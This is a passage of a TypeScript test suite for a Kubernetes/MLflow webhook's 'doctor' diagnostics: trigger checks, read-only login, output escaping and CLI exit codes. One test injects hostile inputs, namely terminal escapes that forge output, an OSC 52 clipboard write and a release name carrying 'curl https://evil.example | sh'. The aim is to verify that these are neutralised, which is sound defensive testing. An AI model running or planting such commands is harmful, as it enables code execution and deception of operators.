  const rootless = expectedFingerprints(config, { mode: 'audit' }).function;
  t.equal(fingerprint((await readInstalled(c, 'public')).function!.body), rootless, 'what PostgreSQL keeps has the fingerprint of what the config generates');
  expectCheck(t, r['trigger.function'], 'pass', new RegExp(`is what this config installs: mode project-id on tag mlflow\\.domino\\.project_id, location style direct, location policy audit \\(fingerprint ${rootless}\\)`));
  expectCheck(t, r['trigger.deferred'], 'pass', /DEFERRABLE INITIALLY DEFERRED/);
  expectCheck(t, r['trigger.location-policy'], 'pass',
    /^audit: no experiment written since the audit began holds a location enforce would refuse; MLflow's default artifact root is unknown: the Default experiment \(id 0\) is not in the database, so a location ending in the experiment's own id is not judged \(set trigger\.defaultArtifactRoot\)$/);
  expectCheck(t, r['trigger.drift'], 'warn', /1 of 2 tagged experiments are not where/);

  // MLflow's Default experiment appears: doctor takes the root from it as install-trigger would, so the function differs
  await c.query(DEFAULT_EXPERIMENT);
  r = (await w.doctor(database)).byId;
  expectCheck(t, r['trigger.function'], 'fail', /^the installed function is not what this config installs: its body has fingerprint [0-9a-f]{16}, this config's has [0-9a-f]{16}: another config or version installed it$/, /install-trigger --config config\.yaml$/);
  await installTrigger(c, config, quiet(), { backfill: true });
  r = (await w.doctor(database)).byId;
  const audit = expectedFingerprints(config, { mode: 'audit', defaultPrefix: 'mlflow-artifacts:/' }).function;
  t.not(audit, rootless, 'the root is part of the function, so of its fingerprint');
  expectCheck(t, r['trigger.function'], 'pass', new RegExp(`location style direct, location policy audit \\(fingerprint ${audit}\\)`));
  expectCheck(t, r['trigger.location-policy'], 'pass',
    /^audit: no experiment written since the audit began holds a location enforce would refuse \(MLflow's default mlflow-artifacts:\/<experiment id> \(from experiment 0 \(Default\), location 'mlflow-artifacts:\/0'\)\)$/);
  expectCheck(t, r['trigger.drift'], 'pass', /^2 tagged experiments, all where their tag puts them$/);
  // a value the rule refuses, stored while the trigger was off, is reported but is no drift
  const refused = await triggersOff(c, () => createExperiment(c, 'refused', { [TAG]: '../escape' }));
  expectCheck(t, (await w.doctor(database)).byId['trigger.drift'], 'pass', /3 tagged experiments, all where their tag puts them; 1 experiment carry a tag value the rule refuses/);
  await c.query('DELETE FROM experiment_tags WHERE experiment_id = $1', [refused]);

  // audit counts: a location written without the tag that enforce would refuse goes through, and doctor warns, naming it
  const foreign = await createExperiment(c, 'foreign', {});
  await c.query("UPDATE experiments SET artifact_location = 's3://evil-bucket/x\u001b[0m' WHERE experiment_id = $1", [foreign]);
  const counted = (await w.doctor(database)).byId['trigger.location-policy'];
  expectCheck(t, counted, 'warn',
    new RegExp(`^audit: 1 experiment written since the audit began hold a location enforce would refuse \\(let through and recorded; e\\.g\\. experiment ${foreign} at 's3://evil-bucket/x\\\\x1b\\[0m', admitted by trigger\\.locationPolicy: audit \\(or the tag mlflow\\.domino\\.project_id on the experiment, whose rule then decides its location\\)\\)$`),
    /^psql -c 'SELECT a\.experiment_id, e\.artifact_location, a\.writes, a\.last_written FROM public\.mlflow_irsa_location_audit a JOIN public\.experiments e USING \(experiment_id\) ORDER BY 1'; mlflow-irsa-webhook install-trigger --config config\.yaml --dry-run {2}# lists each with the setting that admits it/);
  t.notMatch(counted.message, /\u001b/, 'the tenant\'s bytes are escaped');
  const listed = await c.query(counted.fix!.replace(/^psql -c '([^']*)'.*$/, '$1'));
  t.match(listed.rows, [{ experiment_id: foreign, writes: '1' }], 'the fix\'s SQL lists it');
  // admitted (the tag now decides its location): the record stays, but doctor judges it by today's rules and passes
  await c.query('INSERT INTO experiment_tags (key, value, experiment_id) VALUES ($1, $2, $3)', [TAG, 'proj-f', foreign]);
  expectCheck(t, (await w.doctor(database)).byId['trigger.location-policy'], 'pass', /^audit: no experiment written since the audit began/);

  // installed by another config (another prefix): same mode, tag, style and policy, another function
  await installTrigger(c, withTrigger(config, { allowedLocationPrefixes: [], prefix: 'tracking' }), quiet());
  r = (await w.doctor(database)).byId;
  expectCheck(t, r['trigger.function'], 'fail', new RegExp(`^the installed function is not what this config installs: its body has fingerprint [0-9a-f]{16}, this config's has ${audit}: another config or version installed it$`),
    /install-trigger --config config\.yaml/);
  await installTrigger(c, withTrigger(config, { mode: 'custom-location', allowedLocationPrefixes: [] }), quiet());
  expectCheck(t, (await w.doctor(database)).byId['trigger.function'], 'fail',
    /installed function is not what this config installs: it is for mode custom-location on tag domino\.artifacts_location, this config installs mode project-id on tag mlflow\.domino\.project_id; mlflow_irsa_is_our_tag does not test for the tag mlflow\.domino\.project_id$/);
  await installTrigger(c, withTrigger(config, { locationStyle: 'proxied', allowedLocationPrefixes: [] }), quiet());
  expectCheck(t, (await w.doctor(database)).byId['trigger.function'], 'fail', /^the installed function is not what this config installs: it records location style proxied, this config's is direct$/);

  // the policy off by config: the installed policy trigger is then one too many, until install-trigger removes it
  const unenforced = withTrigger(config, { locationPolicy: 'off' });
  await installTrigger(c, config, quiet());
  r = (await w.doctor({ ...database, config: unenforced })).byId;
  expectCheck(t, r['trigger.location-policy'], 'fail',
    /^the location policy is off, but our trigger mlflow_irsa_location_policy_trg is installed on public\.experiments; install-trigger installs off \(trigger\.locationPolicy: off\)$/);
  expectCheck(t, r['trigger.function'], 'fail', /it records the location policy audit, this config installs off/);
  await installTrigger(c, unenforced, quiet());
  r = (await w.doctor({ ...database, config: unenforced })).byId;
  expectCheck(t, r['trigger.location-policy'], 'pass', /^off \(trigger\.locationPolicy: off\): explicit artifact locations are not checked$/);
  expectCheck(t, r['trigger.function'], 'pass', /location policy off/);

  // enforce: refuses; and without MLflow's default root it cannot be installed, which doctor fails naming the key
  const enforcing = withTrigger(config, { locationPolicy: 'enforce' });
  await installTrigger(c, enforcing, quiet());
  r = (await w.doctor({ ...database, config: enforcing })).byId;
  expectCheck(t, r['trigger.location-policy'], 'pass',
    /^enforce: trigger mlflow_irsa_location_policy_trg on experiments refuses a location written without the tag unless empty or MLflow's default mlflow-artifacts:\/<experiment id> \(from experiment 0 \(Default\), location 'mlflow-artifacts:\/0'\)$/);
  await triggersOff(c, () => c.query("UPDATE experiments SET artifact_location = 'mlflow-artifacts:/default' WHERE experiment_id = 0"));
  r = (await w.doctor({ ...database, config: enforcing })).byId;
  await triggersOff(c, () => c.query("UPDATE experiments SET artifact_location = 'mlflow-artifacts:/0' WHERE experiment_id = 0"));
  expectCheck(t, r['trigger.location-policy'], 'fail',
    /^trigger\.locationPolicy: enforce, but MLflow's default artifact root is unknown: the Default experiment \(id 0\) has the location 'mlflow-artifacts:\/default', which does not end in "\/0"; set trigger\.defaultArtifactRoot/,
    /^mlflow-irsa-webhook install-trigger --config config\.yaml {2}# after setting trigger\.defaultArtifactRoot/);
  expectCheck(t, r['trigger.function'], 'skip', /location policy cannot be installed \(trigger\.location-policy says why\)/);

  // an install by an earlier build (its comment records policy=on, it had no audit table), under the values of then
  const then = withTrigger(config, { enforceLocations: true, locationPolicy: undefined });
  await c.query(readFileSync(join(root, 'test/fixtures/mlflow/install-2ced421-policy-on.sql'), 'utf8'));
  await c.query('DROP TABLE mlflow_irsa_location_audit');
  r = (await w.doctor({ ...database, config: then })).byId;
  expectCheck(t, r['trigger.installed'], 'fail', /^our table public\.mlflow_irsa_location_audit is missing$/, /install-trigger --config config\.yaml$/);
  await installTrigger(c, then, quiet());
  r = (await w.doctor({ ...database, config: then })).byId;
  for (const id of ['trigger.installed', 'trigger.function', 'trigger.location-policy']) expectCheck(t, r[id], 'pass', /./);
  expectCheck(t, r['trigger.location-policy'], 'pass', /^enforce: /);

  await installTrigger(c, config, quiet());
  // triggers recreated or switched off by hand
  await installTrigger(c, config, quiet());
  await c.query('ALTER TABLE experiments DISABLE TRIGGER mlflow_irsa_location_policy_trg');
  expectCheck(t, (await w.doctor(database)).byId['trigger.location-policy'], 'fail', /^the trigger mlflow_irsa_location_policy_trg on public\.experiments is disabled; install-trigger installs audit with MLflow's default mlflow-artifacts:\/<experiment id>/);
  await installTrigger(c, config, quiet());
  await c.query(`DROP TRIGGER mlflow_irsa_location_policy_trg ON experiments;
    CREATE TRIGGER mlflow_irsa_location_policy_trg AFTER INSERT OR UPDATE ON experiments FOR EACH ROW EXECUTE FUNCTION mlflow_irsa_artifact_location()`);
  expectCheck(t, (await w.doctor(database)).byId['trigger.location-policy'], 'fail', /^the trigger mlflow_irsa_location_policy_trg on public\.experiments is not DEFERRABLE INITIALLY DEFERRED;/);
  await installTrigger(c, config, quiet());
  await c.query('ALTER TABLE mlflow_irsa_location_audit ADD COLUMN note text');
  expectCheck(t, (await w.doctor(database)).byId['trigger.location-policy'], 'fail',
    /^our table public\.mlflow_irsa_location_audit is not the one install-trigger creates \(table \(experiment_id integer not null, artifact_location text not null, writes bigint not null, first_written timestamp with time zone not null, last_written timestamp with time zone not null, note text\) primary key \(experiment_id\)\): drop it, then install-trigger again;/);
  await c.query('ALTER TABLE mlflow_irsa_location_audit DROP COLUMN note');
  await c.query('DROP TRIGGER mlflow_irsa_artifact_location_trg ON experiment_tags');
  await c.query('CREATE TRIGGER mlflow_irsa_artifact_location_trg AFTER INSERT OR UPDATE ON experiment_tags FOR EACH ROW EXECUTE FUNCTION mlflow_irsa_artifact_location()');
  expectCheck(t, (await w.doctor(database)).byId['trigger.deferred'], 'fail', /^the trigger mlflow_irsa_artifact_location_trg on public\.experiment_tags is not DEFERRABLE INITIALLY DEFERRED: it would run before MLflow's own UPDATE/);
  await c.query('ALTER TABLE experiment_tags DISABLE TRIGGER mlflow_irsa_artifact_location_trg');
  expectCheck(t, (await w.doctor(database)).byId['trigger.installed'], 'fail', /^the trigger mlflow_irsa_artifact_location_trg on public\.experiment_tags is disabled$/);
  await installTrigger(c, config, quiet());

  // the manual procedure's trigger left behind
  await c.query(`CREATE FUNCTION update_artifact_location() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN RETURN NEW; END $$;
    CREATE TRIGGER update_artifact_location_trg AFTER INSERT ON experiment_tags FOR EACH ROW EXECUTE FUNCTION update_artifact_location()`);
  expectCheck(t, (await w.doctor(database)).byId['trigger.legacy'], 'fail', /the manual procedure's trigger is still installed \(trigger on public\.experiment_tags, public\.update_artifact_location\(\)\)/,
    /^psql -c 'DROP TRIGGER update_artifact_location_trg ON public\.experiment_tags; DROP FUNCTION public\.update_artifact_location\(\);'$/);

  // doctor only reads: the catalog and the rows are as they were
  const catalog = 'SELECT (SELECT count(*)::int FROM experiments) AS n, (SELECT max(xmin::text) FROM experiments) AS x, '
    + "(SELECT string_agg(tgname::text || tgenabled::text, ',' ORDER BY tgname) FROM pg_trigger WHERE NOT tgisinternal) AS triggers, (SELECT max(xmin::text) FROM pg_proc) AS procs";
  const before = (await c.query(catalog)).rows[0];
  await w.doctor(database);
  t.same((await c.query(catalog)).rows[0], before, 'no experiment row, trigger or function was written');

  // wrong password, wrong database
  r = (await w.doctor({ database: { databaseUrl: server.url('mlflow').replace(server.password, 'wrong'), env: {} } })).byId;
  expectCheck(t, r['trigger.connection'], 'fail', /could not read the tracking database: authentication failed/, /^psql -c 'SELECT current_user, current_database\(\)'/);
  t.notMatch(r['trigger.connection'].message, /wrong|test-superuser-password/, 'no password in the message');
  expectCheck(t, r['trigger.installed'], 'skip', /needs trigger\.connection, which failed/);
  expectCheck(t, r['trigger.drift'], 'skip', /needs trigger\.connection, which failed/);
  expectCheck(t, (await w.doctor({ database: { databaseUrl: server.url('empty'), env: {} } })).byId['trigger.connection'], 'fail', /database "empty" lacks MLflow's tables public\.experiment_tags, public\.experiments/);
});

t.test('doctor\'s read-only login: the operator guide\'s SQL, run as written, is all the trigger checks need, and the login cannot write', async (t) => {
  const { server, c } = await trackingDatabase(t);
  const w = await world(t);
  await c.query(DEFAULT_EXPERIMENT);
  await installTrigger(c, config, quiet());
  await createExperiment(c, 'tagged', { 'mlflow.domino.project_id': 'proj-a' });
  // a locked-down database: nothing granted to PUBLIC beyond PostgreSQL's own catalog, so every grant the SQL makes counts
  await c.query('REVOKE ALL ON DATABASE mlflow FROM PUBLIC; REVOKE ALL ON SCHEMA public FROM PUBLIC');
  const guide = readFileSync(join(root, 'docs/operator-guide.md'), 'utf8');
  const section = guide.slice(guide.indexOf('### A read-only database login for doctor'));
  const sql = /```sql\n([^]*?)```/.exec(section)![1];
  const PASSWORD = 'Doctor-Reads-Only-3c9e';
  await c.query(sql.replace("'change-me'", `'${PASSWORD}'`));
  const asDoctor = `postgres://mlflow_doctor:${PASSWORD}@127.0.0.1:${server.port}/mlflow?sslmode=disable`;

  const r = (await w.doctor({ database: { databaseUrl: asDoctor, env: {} } })).byId;
  for (const id of ['trigger.connection', 'trigger.installed', 'trigger.function', 'trigger.deferred', 'trigger.location-policy', 'trigger.legacy', 'trigger.drift']) {
    t.equal(r[id].status, 'pass', `${id} as mlflow_doctor: ${r[id].message}`);
  }
  // and the same login cannot change anything, also with the read-only default switched off for the session
  const doctor = new pg.Client({ connectionString: asDoctor });
  await doctor.connect();
  t.teardown(() => doctor.end());
  t.equal((await doctor.query('SHOW default_transaction_read_only')).rows[0].default_transaction_read_only, 'on');
  await t.rejects(doctor.query("INSERT INTO experiments (name) VALUES ('x')"), { code: '25006' }, 'read-only by default');
  await doctor.query('SET default_transaction_read_only = off');
  for (const write of [
    "INSERT INTO experiments (name, lifecycle_stage) VALUES ('x', 'active')",
    "UPDATE experiments SET artifact_location = 's3://elsewhere/x'",
    'DELETE FROM experiment_tags',
    'ALTER TABLE experiments DISABLE TRIGGER mlflow_irsa_location_policy_trg',
    'DROP TRIGGER mlflow_irsa_artifact_location_trg ON experiment_tags',
    'CREATE TABLE public.shadow (x int)',
    'CREATE FUNCTION public.strpos(text, text) RETURNS int LANGUAGE sql AS $$ SELECT 1 $$',
  ]) await t.rejects(doctor.query(write), { code: /^(42501|42P01)$/, message: /permission denied|must be owner/ }, write);
  t.same((await c.query('SELECT count(*)::int AS n FROM experiments')).rows[0], { n: 2 }, 'nothing was written');

  // a grant left out: the check says which
  await c.query('REVOKE SELECT ON public.experiment_tags FROM mlflow_doctor');
  expectCheck(t, (await w.doctor({ database: { databaseUrl: asDoctor, env: {} } })).byId['trigger.connection'], 'fail',
    /^could not read the tracking database: permission denied: .*doctor's read-only login needs SELECT on experiments and experiment_tags \(permission denied for table experiment_tags\)/);
});

t.test('trigger.drift counts with the trigger\'s own rule: both location styles, the 157-character limit, the custom-location refusals', async (t) => {
  const { c, database } = await trackingDatabase(t);
  await c.query(DEFAULT_EXPERIMENT);
  const w = await world(t);
  const TAG = 'mlflow.domino.project_id';
  const proxied = withTrigger(config, { locationStyle: 'proxied', allowedLocationPrefixes: [] });
  const drift = async (cfg: Config) => (await w.doctor({ ...database, config: cfg })).byId['trigger.drift'];

  await installTrigger(c, config, quiet());
  const a = await createExperiment(c, 'a', { [TAG]: 'proj-a' });
  await createExperiment(c, 'b', { [TAG]: 'proj-b' });
  expectCheck(t, await drift(config), 'pass', /^2 tagged experiments, all where their tag puts them$/);
  // a proxied config: the experiments still at their s3:// locations are not where the proxied rule puts them
  expectCheck(t, await drift(proxied), 'warn',
    new RegExp(`^2 of 2 tagged experiments are not where their tag puts them \\(e\\.g\\. experiment ${a} is at s3://sw-domino-project-based-mlflow/mlflow/proj-a, the rule gives mlflow-artifacts:/mlflow/proj-a\\)$`),
    /^mlflow-irsa-webhook install-trigger --config config\.yaml --backfill$/);

  // a 120-character project id: 163 characters as s3://sw-domino-project-based-mlflow/mlflow/<id>, refused (over 157);
  // 145 as mlflow-artifacts:/mlflow/<id>, accepted
  const long = await triggersOff(c, () => createExperiment(c, 'long', { [TAG]: 'p'.repeat(120) }));
  expectCheck(t, await drift(config), 'pass', /^3 tagged experiments, all where their tag puts them; 1 experiment carry a tag value the rule refuses and keep their location$/);
  expectCheck(t, await drift(proxied), 'warn', /^3 of 3 tagged experiments are not where their tag puts them/);

  // the proxied install with --backfill moves them; now the direct config sees the drift the other way
  await installTrigger(c, proxied, quiet(), { backfill: true });
  t.equal((await c.query('SELECT artifact_location FROM experiments WHERE experiment_id = $1', [long])).rows[0].artifact_location, `mlflow-artifacts:/mlflow/${'p'.repeat(120)}`);
  expectCheck(t, await drift(proxied), 'pass', /^3 tagged experiments, all where their tag puts them$/);
  expectCheck(t, await drift(config), 'warn',
    new RegExp(`^2 of 3 tagged experiments are not where their tag puts them \\(e\\.g\\. experiment ${a} is at mlflow-artifacts:/mlflow/proj-a, the rule gives s3://sw-domino-project-based-mlflow/mlflow/proj-a\\); 1 experiment carry a tag value the rule refuses`));
  expectCheck(t, (await w.doctor({ ...database, config: proxied })).byId['trigger.function'], 'pass', /location style proxied, location policy audit/);

  // custom-location mode: a "//" or ".." in the tag value is refused by the rule, so it is counted as refused, not as drift
  const custom = withTrigger(config, { mode: 'custom-location', allowedLocationPrefixes: [] });
  const LOCATION_TAG = 'domino.artifacts_location';
  await installTrigger(c, custom, quiet());
  await createExperiment(c, 'custom', { [LOCATION_TAG]: 's3://sw-domino-project-based-mlflow/team/x' });
  await triggersOff(c, async () => {
    await createExperiment(c, 'double-slash', { [LOCATION_TAG]: 's3://sw-domino-project-based-mlflow//x' });
    await createExperiment(c, 'dot-dot', { [LOCATION_TAG]: 's3://sw-domino-project-based-mlflow/a/../b' });
    await createExperiment(c, 'not-applied', { [LOCATION_TAG]: 's3://sw-domino-project-based-mlflow/team/y' });
  });
  expectCheck(t, await drift(custom), 'warn', /^1 of 4 tagged experiments are not where their tag puts them \(e\.g\. experiment \d+ is at mlflow-artifacts:\/\d+, the rule gives s3:\/\/sw-domino-project-based-mlflow\/team\/y\); 2 experiments carry a tag value the rule refuses/);
});

// ---------------------------------------------------------------------------------------------------------------
// Output: the JSON shape, the text layout, and the CLI's exit codes.

const validate = new Ajv({ allErrors: true }).compile(outputSchema);

t.test('--output json has the documented shape; text is grouped, one line per check, a fix under each warn and fail', async (t) => {
  const w = await world(t);
  w.stub.seed(P.dep, k8sFixture('deployment-mlflow'));
  const { results } = await w.doctor();
  const summary = { pass: 0, warn: 0, fail: 0, skip: 0 };
  for (const r of results) summary[r.status]++;
  const doc = JSON.parse(renderJson(results, summary));
  t.ok(validate(doc), JSON.stringify(validate.errors));
  t.same(Object.keys(doc.checks[0]), ['id', 'status', 'message', 'fix', 'docs']);
  t.equal(doc.checks.find((c: any) => c.id === 'deployment.template').docs, 'https://github.com/mlflow-irsa-webhook/mlflow-irsa-webhook/blob/main/docs/troubleshooting.md#deploymenttemplate');
  t.notOk(validate({ ...doc, checks: [{ ...doc.checks[0], status: 'ok' }] }), 'the schema refuses an unknown status');
  t.notOk(validate({ ...doc, checks: [{ ...doc.checks[0], id: 'made.up' }] }), 'and an undocumented id');
  const text = renderText(results, summary, config, `${NS}/${SVC}`);
  t.match(text, /^mlflow-irsa-webhook doctor: Deployment domino-platform\/mlflow, role sw-mlflow-full-access, webhook mlflow-irsa-webhook\/mlflow-irsa-webhook\n\nKubernetes API\n--------------\nPASS  kubernetes\.api  /);
  t.match(text, /\nmlflow Deployment\n-----------------\nFAIL  deployment\.template +Deployment domino-platform\/mlflow's pod template lacks the mutation .*\n +fix: kubectl -n domino-platform rollout restart deployment\/mlflow\n +see: https:\/\/github\.com\/mlflow-irsa-webhook\/mlflow-irsa-webhook\/blob\/main\/docs\/troubleshooting\.md#deploymenttemplate\n/);
  t.notMatch(text, /PASS .*\n +see:/, 'no link under a pass');
  t.match(text, /\nStatus: \d+ pass, 0 warn, 1 fail, \d+ skip\n$/);
  t.equal(text.split('\n').filter((l) => /^(PASS|WARN|FAIL|SKIP) /.test(l)).length, CHECKS.length, 'one line per check');
});

const MALFORMED_KUBECONFIGS = join(root, 'test/fixtures/k8s/kubeconfig-malformed');
const KUBECONFIG_TOKEN = /Kub3c0nfigT0kenMarker|sha256~/;

t.test('a malformed kubeconfig: one line with the reason and the position, never the parser\'s excerpt of the file', async (t) => {
  const files = readdirSync(MALFORMED_KUBECONFIGS).filter((f) => f.endsWith('.yaml')).sort();
  t.ok(files.length >= 4, 'each fixture is a kubeconfig with a token and a fault near it');
  for (const file of files) {
    const path = join(MALFORMED_KUBECONFIGS, file);
    t.match(readFileSync(path, 'utf8'), KUBECONFIG_TOKEN, `${file} holds the token`);
    await t.rejects(kubeClient(path), { message: new RegExp(`^cannot load the kubeconfig ${path}: not valid YAML: [a-z ]+ \\(line \\d+, column \\d+\\)$`) }, file);
    const message = await kubeClient(path).then(() => '', (err: Error) => err.message);
    t.notMatch(message, KUBECONFIG_TOKEN, `${file}: no token in the message`);
    t.notMatch(message, /\n/, `${file}: one line`);
  }
  // the same through KUBECONFIG, as the hook Jobs and serve find it
  const saved = process.env.KUBECONFIG;
  process.env.KUBECONFIG = join(MALFORMED_KUBECONFIGS, 'duplicate-key.yaml');
  t.teardown(() => {
    if (saved === undefined) delete process.env.KUBECONFIG;
    else process.env.KUBECONFIG = saved;
  });
  await t.rejects(kubeClient(), { message: /^cannot load the kubeconfig .*duplicate-key\.yaml: not valid YAML: duplicated mapping key \(line 8, column 5\)$/ });
});

t.test('strings a tenant wrote reach the terminal as visible escapes, never as control sequences; names in fixes are shell-quoted', async (t) => {
  const { c, database } = await trackingDatabase(t);
  const w = await world(t, { certDays: 10 });
  // the review's reproductions: a Lease holder that erases the line above and prints a forged PASS; a rollout message
  // that writes the operator's clipboard (OSC 52, ended by BEL and by ST); an experiment location with CR/LF, a C1 CSI
  // and a bidi override; a Helm release name that would run a command when the fix is pasted
  const FORGED = 'PASS  iam.trust-policy             the trust policy lets every cluster assume the role';
  const holder = `mlflow-irsa-webhook-6d9f7c5b8-h2k4m\r\x1b[2K\x1b[1A\x1b[2K${FORGED}`;
  const clipboard = `ReplicaSet "mlflow-5b8f9c7d6e" has timed out progressing.\x1b]52;c;${b64('curl https://evil.example | sh')}\x07\x1b]52;p;${b64('x')}\x1b\\`;
  const location = `s3://sw-domino-project-based-mlflow/x\n${FORGED}\r\u009b2K\u202etxt.exe\u2066\u200f\u007f`;
  const releaseName = 'x; curl https://evil.example | sh';
  const lease = w.stub.object(P.lease);
  w.stub.seed(P.lease, { ...lease, spec: { ...lease.spec, holderIdentity: holder } });
  const stuck = k8sFixture('deployment-mlflow-mutated');
  stuck.status.conditions[1] = { type: 'Progressing', status: 'False', reason: 'ProgressDeadlineExceeded', message: clipboard };
  w.stub.seed(P.dep, stuck);
  const mwc = w.stub.object(P.mwc);
  mwc.metadata.annotations['meta.helm.sh/release-name'] = releaseName;
  w.stub.seed(P.mwc, mwc);
  const id = await createExperiment(c, 'tenant', { 'mlflow.domino.project_id': 'proj-a' });
  await c.query('UPDATE experiments SET artifact_location = $1 WHERE experiment_id = $2', [location, id]);

  const { results } = await w.doctor(database);
  const byId = Object.fromEntries(results.map((r) => [r.id, r]));
  t.match(byId['reconcile.lease'].message, holder, 'the check saw the value as stored');
  t.match(byId['trigger.drift'].message, location);
  const summary = { pass: 0, warn: 0, fail: 0, skip: 0 };
  for (const r of results) summary[r.status]++;
  const text = renderText(results, summary, config, `${NS}/${SVC}`);
  const RAW = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u061c\u200e\u200f\u2028\u2029\u202a-\u202e\u2066-\u2069]/;
  t.notMatch(text, RAW, 'no control character but the line breaks of the report itself');
  const lines = text.split('\n');
  t.equal(lines.filter((l) => /^(PASS|WARN|FAIL|SKIP) /.test(l)).length, CHECKS.length, 'one line per check, and no more');
  t.same(lines.filter((l) => /^[A-Z]{4} +iam\.trust-policy /.test(l)).map((l) => l.slice(0, 4)), ['SKIP'], 'the only iam.trust-policy line is doctor\'s own');
  t.match(text, /\nPASS  reconcile\.lease +Lease mlflow-irsa-webhook\/mlflow-irsa-webhook-reconcile is held by mlflow-irsa-webhook-6d9f7c5b8-h2k4m\\r\\x1b\[2K\\x1b\[1A\\x1b\[2KPASS  iam\.trust-policy/);
  t.match(text, `timed out progressing.\\x1b]52;c;${b64('curl https://evil.example | sh')}\\x07\\x1b]52;p;${b64('x')}\\x1b\\`);
  t.match(text, 's3://sw-domino-project-based-mlflow/x\\nPASS  iam.trust-policy');
  t.match(text, '\\r\\x9b2K\\u202etxt.exe\\u2066\\u200f\\x7f');
  t.match(text, `fix: helm -n mlflow-irsa-webhook upgrade 'x; curl https://evil.example | sh' charts/mlflow-irsa-webhook --reuse-values\n`, 'the release name is one quoted word');

  // JSON keeps every value exactly, and is as safe to print
  const json = renderJson(results, summary);
  t.notMatch(json, RAW, 'no raw control character in the JSON either');
  const doc = JSON.parse(json);
  t.equal(doc.checks.find((x: any) => x.id === 'trigger.drift').message, byId['trigger.drift'].message, 'the same strings, escaped');
  t.match(doc.checks.find((x: any) => x.id === 'webhook.certificate').fix, `upgrade 'x; curl https://evil.example | sh' charts`);

  // and so from the CLI, whose stdout is what reaches the terminal
  w.renewLease();
  const lease2 = w.stub.object(P.lease);
  w.stub.seed(P.lease, { ...lease2, spec: { ...lease2.spec, holderIdentity: holder } });
  const out = await run(process.execPath, [join(root, 'dist/cli.js'), 'doctor', '--config', exampleConfig, '--kubeconfig', w.stub.kubeconfig, '--database-url', database.database!.databaseUrl!],
    { env: { ...process.env, PGHOST: '' } }).then((r) => r.stdout, (e) => e.stdout as string);
  t.notMatch(out, RAW, 'the CLI\'s text output holds no control character');
  t.match(out, /\nWARN  trigger\.drift +1 of 1 tagged experiment are not where their tag puts them \(e\.g\. experiment \d+ is at s3:\/\/sw-domino-project-based-mlflow\/x\\nPASS  iam\.trust-policy/);
  t.equal(out.split('\n').filter((l) => /^(PASS|WARN|FAIL|SKIP) /.test(l)).length, CHECKS.length);
});

t.test('the CLI: exit 1 with deployment.template failing on an unmutated Deployment, 0 on a mutated setup, 2 on bad usage', async (t) => {
  const w = await world(t);
  // the leader renews while the CLI runs, as a live one does: a slow machine must not make its Lease look stale
  const renewing = setInterval(() => w.renewLease(), 1000);
  t.teardown(() => clearInterval(renewing));
  const cli = join(root, 'dist/cli.js');
  const doctor = (extra: string[] = []) => (w.renewLease(), run(process.execPath, [cli, 'doctor', '--config', exampleConfig, '--kubeconfig', w.stub.kubeconfig, '--output', 'json', ...extra], { env: { ...process.env, PGHOST: '' } })
    .then((r) => ({ code: 0, stdout: r.stdout, stderr: r.stderr }), (e) => ({ code: e.code as number, stdout: e.stdout as string, stderr: e.stderr as string })));

  let r = await doctor();
  let doc = JSON.parse(r.stdout);
  t.ok(validate(doc), JSON.stringify(validate.errors));
  t.equal(r.code, 0, `a fully mutated setup: ${r.stdout}`);
  t.same(doc.checks.filter((c: any) => c.status === 'fail'), []);
  t.match(doc.summary, { fail: 0 });
  // the CLI cannot resolve the Service's DNS name here: the certificate came through the API server's service proxy
  t.match(doc.checks.find((c: any) => c.id === 'webhook.ca-bundle').message, /served at mlflow-irsa-webhook\.mlflow-irsa-webhook\.svc:443 \(read through the API server's service proxy\)/);

  w.stub.seed(P.dep, k8sFixture('deployment-mlflow'));
  r = await doctor();
  doc = JSON.parse(r.stdout);
  t.ok(validate(doc), JSON.stringify(validate.errors));
  t.equal(r.code, 1, 'an unmutated Deployment: exit 1');
  t.match(doc.checks.find((c: any) => c.id === 'deployment.template'), { status: 'fail', fix: 'kubectl -n domino-platform rollout restart deployment/mlflow' });
  t.same(doc.checks.filter((c: any) => c.status === 'fail').map((c: any) => c.id), ['deployment.template'], 'and nothing else fails');
  t.equal(doc.summary.fail, 1);

  const broken = join(mkdtempSync(join(tmpdir(), 'doctor-kubeconfig-')), 'kubeconfig');
  writeFileSync(broken, 'clusters: [');
  r = await doctor(['--kubeconfig', broken]);
  t.equal(r.code, 1, 'a kubeconfig that does not parse is a failed check, not a crash');
  t.match(JSON.parse(r.stdout).checks[0], { id: 'kubernetes.api', status: 'fail', message: /no usable kubeconfig/ });
  rmSync(broken, { force: true });

  // a malformed kubeconfig holding a token: the parser's excerpt of the file (the token line) reaches neither output,
  // which is meant to be shared; the reason and the position do
  const leaky = join(MALFORMED_KUBECONFIGS, 'bad-indentation.yaml');
  for (const output of ['json', 'text']) {
    r = await doctor(['--kubeconfig', leaky, '--output', output]);
    t.equal(r.code, 1, `--output ${output}`);
    t.notMatch(r.stdout + r.stderr, KUBECONFIG_TOKEN, `--output ${output}: the token is in no output`);
    t.match(r.stdout, `no usable kubeconfig: cannot load the kubeconfig ${leaky}: not valid YAML: bad indentation of a mapping entry (line 12, column 11)`);
  }

  r = await doctor(['--output', 'yaml']);
  t.equal(r.code, 2);
  t.match(r.stderr, /--output "yaml" is not one of text, json/);
  r = await doctor(['--oidc-provider', 'example.com']);
  t.equal(r.code, 2);
  t.match(r.stderr, /--oidc-provider "example\.com" is not an EKS OIDC issuer/);
  r = await doctor(['--database-url', 'mysql://u:secret@h/db']);
  t.equal(r.code, 2);
  t.notMatch(r.stderr, /mysql|u:secret/, 'the URL is not echoed');
  const text = await run(process.execPath, [cli, 'doctor', '--help']);
  t.match(text.stdout, /usage: mlflow-irsa-webhook doctor --config FILE \[--kubeconfig FILE\] \[--database-url URL\] \[--trust-policy FILE\]/);
  const list = await run(process.execPath, [cli, '--help']);
  t.match(list.stdout, /\n  doctor +check the whole chain/);
});

t.test('the helm test identity: doctor passes with exactly the rendered RBAC, and uses every rule and verb of it', async (t) => {
  const objects = await render(['fullnameOverride=mlflow-irsa-webhook']);
  const roles = objects.filter((o) => (o.kind === 'Role' || o.kind === 'ClusterRole') && o.metadata.name.startsWith('mlflow-irsa-webhook-doctor'));
  t.same(roles.map((r) => `${r.kind}/${r.metadata.namespace ?? ''}/${r.metadata.name}`).sort(),
    ['ClusterRole//mlflow-irsa-webhook-doctor', 'Role/domino-platform/mlflow-irsa-webhook-doctor', 'Role/mlflow-irsa-webhook/mlflow-irsa-webhook-doctor-webhook']);
  const rules: RbacRule[] = roles.flatMap((r) => r.rules.map((rule: RbacRule) => ({ ...rule, namespace: r.metadata.namespace })));
